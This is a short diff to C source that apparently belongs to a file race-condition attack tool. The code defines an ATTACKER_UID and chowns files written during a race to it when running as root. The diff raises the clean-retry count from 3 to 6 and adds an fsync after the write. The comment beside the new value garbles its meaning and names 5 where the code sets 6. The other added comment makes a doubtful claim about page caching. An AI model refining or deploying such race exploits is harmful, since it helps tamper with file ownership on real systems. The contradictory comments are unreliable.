@@ -26,7 +26,7 @@
 
 #define ATTACKER_UID  65534
 #define BATCH_MAX     8
-#define TRIES_CLEAN   3
+#define TRIES_CLEAN   6 /* until a verdict is kept, and the file is held: 5 for a user's */
 #define TRIES_CHANGED 2
 #define MAP_LENGTH    RACE_MAX_FILE
 
@@ -74,6 +74,8 @@ static int put_file(struct attack *a, const char *path, const uint8_t *buf, size
 	if (fd < 0)
 		return fd;
 	r = race_result(write(fd, buf, n), n);
+	if (r == 0) /* a dirty page cannot leave the cache */
+		r = race_result(fsync(fd), 0);
 	if (r == 0 && a->as_root && !a->race->owner_root)
 		r = race_result(fchown(fd, ATTACKER_UID, ATTACKER_UID), 0);
 	if (r < 0) {
